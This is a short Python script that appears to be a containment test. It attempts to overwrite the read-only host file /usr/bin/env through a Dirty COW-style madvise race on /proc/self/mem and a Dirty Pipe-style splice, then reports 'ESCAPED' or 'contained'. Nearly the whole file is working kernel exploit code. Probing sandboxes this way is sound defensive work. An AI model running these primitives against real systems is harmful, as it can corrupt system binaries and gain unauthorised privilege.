#: act: change a read-only file of the host through a private mapping, /proc/self/mem, splice and a race of madvise
import ctypes
import mmap
import os
import threading

PATH = "/usr/bin/env"
before = open(PATH, "rb").read(4096)
descriptor = os.open(PATH, os.O_RDONLY)
view = mmap.mmap(descriptor, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
address = ctypes.addressof(ctypes.c_char.from_buffer(view))
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
except PermissionError:
    memory = None
done = threading.Event()


def forget():
    libc = ctypes.CDLL(None)
    while not done.is_set():
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)


thread = threading.Thread(target=forget)
thread.start()
for _ in range(2000):
    if memory is not None:
        os.pwrite(memory, b"ESCAPED", address)
    view[0:7] = b"ESCAPED"
done.set()
thread.join()

# Pages that a pipe borrowed from the page cache must not be merged with what is written later.
reading, writing = os.pipe()
os.write(writing, bytes(4096))
os.read(reading, 4096)
os.splice(descriptor, writing, 1, offset_src=0)
os.write(writing, b"ESCAPED")
if open(PATH, "rb").read(4096) != before:
    print("ESCAPED: the file has changed")
    raise SystemExit(66)
try:
    mmap.mmap(descriptor, 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_WRITE)
    print("ESCAPED: a shared mapping for writing")
    raise SystemExit(66)
except PermissionError:
    print("contained: EACCES, the file is as it was")
